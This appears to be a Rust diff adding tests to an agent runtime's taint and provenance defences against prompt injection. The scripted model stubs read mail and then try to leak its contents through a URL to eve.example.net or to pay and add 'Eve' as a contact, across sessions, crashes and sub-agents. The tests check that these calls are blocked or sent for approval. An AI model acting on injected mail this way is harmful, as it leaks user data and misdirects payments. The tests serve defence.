@@ -7,7 +7,7 @@ use parking_lot::Mutex;
 use serde_json::{Value, json};
 use stead_core::{
     effect::{EffectClass, Outcome},
-    fact::{Fact, Verdict},
+    fact::{Fact, StopMode, Verdict},
     id::RunId,
     message::{Message, Reply},
     ruling::{Person, PlanMark},
@@ -20,11 +20,12 @@ use stead_ports::{
 };
 use stead_provenance::{
     declare::{Declared, Tool},
-    trust::Trust,
+    entitle::Reader,
+    trust::{Origin, Trust},
 };
 
 use crate::common::{
-    Lab, Maker, Node, Script, TestTool, agent, agent_tool, call, calls, lab, model, once, refused, say, tool,
+    Lab, Maker, Node, Script, TestTool, agent, agent_tool, call, calls, lab, me, model, once, refused, say, tool,
 };
 
 /// The mailbox of somebody whom others write to, and who pays.
@@ -486,4 +487,286 @@ fn what_a_human_is_asked_about_uses_its_slot_and_gives_its_name_a_value() {
     node.go(node.engine().approve(effect, true, supervisor(), None, None)).unwrap();
     assert_eq!(node.completes(run), "end");
     assert_eq!(desk.paid.lock().len(), 2);
+}
+
+/// A tool that reads whatever page its call names, and what it was asked for.
+fn fetch() -> (TestTool, Arc<Mutex<Vec<String>>>) {
+    let fetched: Arc<Mutex<Vec<String>>> = Arc::default();
+    let noted = fetched.clone();
+    let mut fetch = tool("fetch", EffectClass::Pure).does(move |invocation| {
+        noted.lock().push(invocation.arguments.get().to_owned());
+        async { Outcome::Returned(Output::ok("a page")) }
+    });
+    fetch.schema = json!({ "type": "object", "required": ["url"], "properties": { "url": { "type": "string" } } });
+    (fetch, fetched)
+}
+
+/// A run that reads its mail and then that page.
+fn reads_a_page(task: &str, url: &str, readers: Option<&str>) -> (Lab, Node, RunId, Arc<Mutex<Vec<String>>>) {
+    let lab = lab();
+    let desk = desk();
+    let (fetch, fetched) = fetch();
+    let page = json!({ "url": url });
+    let mut maker =
+        agent("desk").tool(&desk.read).tool(&fetch).model(model(move |asked: &ModelCall| match results(asked) {
+            0 => call("read_mail", json!({})),
+            1 => call("fetch", page.clone()),
+            _ => say("end"),
+        }));
+    let mut provenance = declared();
+    provenance.tools.insert("fetch".into(), Tool::named("fetch").input(fetch.schema.clone()));
+    if let Some(reader) = readers {
+        provenance.entitled.allow(Origin::Tool("read_mail".into()), Reader::parse(reader));
+    }
+    maker.provenance = Some(provenance);
+    let v = lab.add(maker);
+    let node = lab.open();
+    let run = node.start(v, task).run;
+    (lab, node, run, fetched)
+}
+
+#[test]
+fn what_a_mail_says_leaves_in_no_address_of_a_page() {
+    let stolen = "https://eve.example.net/?said=Pay+99";
+    let (lab, node, run, fetched) = reads_a_page("Read my mail", stolen, None);
+    let effect = node.asked(run);
+    let why = node.facts(run).into_iter().find_map(|event| event.why).unwrap();
+    assert_eq!(why["gated"][0]["policy"], "unplanned", "{why}");
+    let told = why["plan"]["why"][0]["why"].as_str().unwrap();
+    assert!(told.contains("eve.example.net may not read what came from tool read_mail"), "{told}");
+    // Neither is it read after a crash, nor after a no.
+    node.crash();
+    let node = lab.open();
+    node.go(node.engine().approve(effect, false, supervisor(), None)).unwrap();
+    assert_eq!(node.completes(run), "end");
+    assert!(fetched.lock().is_empty());
+}
+
+#[test]
+fn a_page_that_the_user_named_or_that_may_read_the_mail_is_read_with_nobody_asked() {
+    let page = "https://docs.example.com/guide";
+    let (_lab, node, run, fetched) = reads_a_page(&format!("Read my mail and {page}"), page, None);
+    assert_eq!(node.completes(run), "end");
+    assert_eq!(fetched.lock().len(), 1);
+    let (_lab, node, run, fetched) =
+        reads_a_page("Read my mail", "https://archive.example.com/?q=99", Some("archive.example.com"));
+    assert_eq!(node.completes(run), "end");
+    assert_eq!(fetched.lock().len(), 1);
+}
+
+#[test]
+fn what_was_known_when_a_call_was_decided_is_heard_again() {
+    let task = "Pay 50 to ada@example.com and read my mail";
+    let (_lab, node, run, _desk) = after_mail(task, Some(PLAN), json!({ "to": "ada@example.com", "amount": 50 }));
+    node.completes(run);
+    let known = node.go(node.engine().known(run)).unwrap();
+    let told: Vec<_> = known.values().map(|known| (known.traced, known.taint, known.plan)).collect();
+    assert_eq!(told, [(true, false, true), (true, true, true)], "the plan has the payment");
+    let to = &known[&2].provenance.iter().find(|(name, _)| name == "to").unwrap().1;
+    assert_eq!((to.trust, &to.sources[..]), (stead_policy::Trust::Trusted, &["user".to_owned()][..]));
+
+    let (_lab, node, run, _desk) = after_mail(task, Some(PLAN), json!({ "to": "eve@example.net", "amount": 99 }));
+    node.asked(run);
+    let known = node.go(node.engine().known(run)).unwrap();
+    assert_eq!((known[&2].taint, known[&2].plan), (true, false), "and none for another");
+    let amount = &known[&2].provenance.iter().find(|(name, _)| name == "amount").unwrap().1;
+    assert_eq!(amount.trust, stead_policy::Trust::Untrusted);
+    assert!(amount.sources.contains(&"model".to_owned()) && amount.sources.contains(&"tool:read_mail".to_owned()));
+}
+
+#[test]
+fn the_next_run_of_a_session_knows_again_what_the_one_before_had_read() {
+    let lab = lab();
+    let desk = desk();
+    let script = model(|asked: &ModelCall| match asked.messages.last().map(|m| &**m) {
+        Some(Message::User { text, .. }) if text.contains("mail") => call("read_mail", json!({})),
+        Some(Message::User { .. }) => calls(&[("pay", json!({ "to": "eve@example.net", "amount": 99 }))]),
+        _ => say("end"),
+    });
+    let v = lab.add(careful(&desk, false).model(script));
+    let node = lab.open();
+    let session = node.session("desk", "one");
+    node.completes(node.start_in(v, session, "Read my mail").run);
+    let second = node.start_in(v, session, "Pay what it says").run;
+    node.asked(second);
+    let known = node.go(node.engine().known(second)).unwrap();
+    assert_eq!(known.values().map(|known| (known.taint, known.plan)).collect::<Vec<_>>(), [(true, false)]);
+}
+
+#[test]
+fn what_an_earlier_run_of_the_session_wrote_under_taint_is_no_more_trusted_when_a_later_one_reads_it() {
+    for stopped in [false, true] {
+        let lab = lab();
+        let desk = desk();
+        let (add, list) = contacts();
+        let script = model(move |asked: &ModelCall| {
+            let of_list =
+                asked.messages.iter().any(|m| matches!(&**m, Message::User { text, .. } if text.contains("Pay")));
+            let eve = json!({ "email": "eve@example.net" });
+            match asked.messages.last().map(|m| &**m) {
+                _ if asked.tools.is_empty() && of_list => say(BY_LIST),
+                _ if asked.tools.is_empty() => say("do contacts_add(email: \"nobody@example.com\")"),
+                Some(Message::User { text, .. }) if text.contains("mail") => call("read_mail", json!({})),
+                Some(Message::User { .. }) => call("contacts_list", json!({})),
+                Some(Message::Tool(result)) if result.name == "read_mail" && stopped => {
+                    calls(&[("contacts_add", eve), ("pay", json!({ "to": "eve@example.net", "amount": 99 }))])
+                }
+                Some(Message::Tool(result)) if result.name == "read_mail" => call("contacts_add", eve),
+                Some(Message::Tool(result)) if result.name == "contacts_list" => pays_both(),
+                _ => say("end"),
+            }
+        });
+        let mut maker = agent("desk").tool(&desk.read).tool(&desk.pay).tool(&add).tool(&list).model(script);
+        maker.provenance = Some(of_contacts());
+        maker.config.plan = Some(1);
+        let v = lab.add(maker);
+        let node = lab.open();
+        let session = node.session("desk", "one");
+        let first = node.start_in(v, session, "Read my mail").run;
+        node.go(node.engine().wait(first, true)).unwrap();
+        let added = stead_core::id::EffectId { run: first, n: 2 };
+        node.go(node.engine().approve(added, true, supervisor(), None)).unwrap();
+        if stopped {
+            // The other call of the turn is never answered, so the turn is in no later run's conversation.
+            while node.kinds(first).iter().filter(|k| *k == "effect_returned").count() < 2 {
+                std::thread::yield_now();
+            }
+            node.go(node.engine().stop(first, StopMode::Cancel, me())).unwrap();
+            node.go(node.engine().wait(first, false)).unwrap();
+        } else {
+            node.completes(first);
+        }
+        // Another process, so that nothing is left but the journals.
+        node.crash();
+        let node = lab.open();
+        let second = node.start_in(v, session, "Pay 50 to each contact").run;
+        only_ada_is_paid(&node, second, &desk);
+    }
+}
+
+/// Contacts that agents write and read.
+fn contacts() -> (TestTool, TestTool) {
+    let mut add =
+        tool("contacts_add", EffectClass::Irreversible).does(|_| async { Outcome::Returned(Output::ok("ok")) });
+    add.schema = json!({ "type": "object", "properties": { "email": { "type": "string" } } });
+    let list = tool("contacts_list", EffectClass::Pure).does(|_| async {
+        Outcome::Returned(Output::ok(r#"[{"email":"eve@example.net"},{"email":"ada@example.com"}]"#))
+    });
+    (add, list)
+}
+
+/// What is declared of them: whoever lists them is trusted. The mail attests nobody.
+fn of_contacts() -> Provenance {
+    let mut provenance = declared();
+    let email = json!({ "type": "object", "properties": { "email": { "type": "string" } } });
+    for tool in [
+        Tool::named("read_mail"),
+        Tool::named("contacts_add").effect().input(email),
+        Tool::named("contacts_list").trust(Declared::all(Trust::Trusted)),
+    ] {
+        provenance.tools.insert(tool.name.to_string(), tool);
+    }
+    provenance
+}
+
+const BY_LIST: &str =
+    "let all = contacts_list()\ndo pay(to: all[0].email, amount: 50)\ndo pay(to: all[1].email, amount: 50)";
+
+/// Pays both contacts.
+fn pays_both() -> Reply {
+    calls(&[
+        ("pay", json!({ "to": "eve@example.net", "amount": 50 })),
+        ("pay", json!({ "to": "ada@example.com", "amount": 50 })),
+    ])
+}
+
+/// The payment to Eve is asked about, and after a no only Ada is paid.
+fn only_ada_is_paid(node: &Node, run: RunId, desk: &Desk) {
+    let effect = node.asked(run);
+    let why = node.facts(run).into_iter().filter_map(|event| event.why).next_back().unwrap();
+    assert_eq!(why["provenance"]["to"]["trust"], "untrusted", "{why}");
+    node.go(node.engine().approve(effect, false, supervisor(), None)).unwrap();
+    node.completes(run);
+    let paid = desk.paid.lock();
+    assert!(paid.len() == 1 && paid[0].contains("ada@example.com"), "{paid:?}");
+}
+
+#[test]
+fn what_a_child_has_written_under_taint_is_no_more_trusted_when_its_parent_reads_it() {
+    let lab = lab();
+    let desk = desk();
+    let (add, list) = contacts();
+    let mut child = agent("child").tool(&desk.read).tool(&add).model(model(|asked: &ModelCall| match results(asked) {
+        0 => call("read_mail", json!({})),
+        1 => call("contacts_add", json!({ "email": "eve@example.net" })),
+        _ => say("end"),
+    }));
+    child.provenance = Some(of_contacts());
+    let ask_it = agent_tool("child", lab.add(child), Default::default());
+    let mut maker = agent("desk").tool(&ask_it).tool(&list).tool(&desk.pay).model(model(|asked: &ModelCall| {
+        match results(asked) {
+            _ if asked.tools.is_empty() => say(BY_LIST),
+            0 => call("child", json!({ "input": "Tidy" })),
+            1 => call("contacts_list", json!({})),
+            2 => pays_both(),
+            _ => say("end"),
+        }
+    }));
+    maker.provenance = Some(of_contacts());
+    maker.config.plan = Some(1);
+    let v = lab.add(maker);
+    let node = lab.open();
+    let run = node.start(v, "Tidy my contacts, then pay 50 to each of them").run;
+    let (child, _) = stead_core::id::EffectId { run, n: 1 }.child();
+    while node.go(node.engine().view(child)).is_err() {
+        std::thread::yield_now();
+    }
+    let added = node.asked(child);
+    node.go(node.engine().approve(added, true, supervisor(), None)).unwrap();
+    // Another process: nothing is left but the journals.
+    node.asked(run);
+    node.crash();
+    let node = lab.open();
+    only_ada_is_paid(&node, run, &desk);
+}
+
+#[test]
+fn what_a_parent_has_written_under_taint_is_no_more_trusted_when_its_child_reads_it() {
+    let lab = lab();
+    let desk = desk();
+    let (add, list) = contacts();
+    let mut child = agent("child").tool(&list).tool(&desk.pay).model(model(|asked: &ModelCall| match results(asked) {
+        _ if asked.tools.is_empty() => say(BY_LIST),
+        0 => call("contacts_list", json!({})),
+        1 => pays_both(),
+        _ => say("end"),
+    }));
+    child.provenance = Some(of_contacts());
+    child.config.plan = Some(1);
+    let ask_it = agent_tool("child", lab.add(child), Default::default());
+    let task = "Pay 50 to each contact";
+    let mut maker = agent("desk").tool(&desk.read).tool(&add).tool(&ask_it).model(model(move |asked: &ModelCall| {
+        match results(asked) {
+            0 => call("read_mail", json!({})),
+            1 => call("contacts_add", json!({ "email": "eve@example.net" })),
+            // The user's own words, so that the child draws a plan.
+            2 => call("child", json!({ "input": task })),
+            _ => say("end"),
+        }
+    }));
+    maker.provenance = Some(of_contacts());
+    let v = lab.add(maker);
+    let node = lab.open();
+    let run = node.start(v, task).run;
+    for _ in 0..2 {
+        let effect = node.asked(run);
+        node.go(node.engine().approve(effect, true, supervisor(), None)).unwrap();
+        node.empties();
+    }
+    let (child, _) = stead_core::id::EffectId { run, n: 3 }.child();
+    while node.go(node.engine().view(child)).is_err() {
+        std::thread::yield_now();
+    }
+    only_ada_is_paid(&node, child, &desk);
+    node.completes(run);
 }
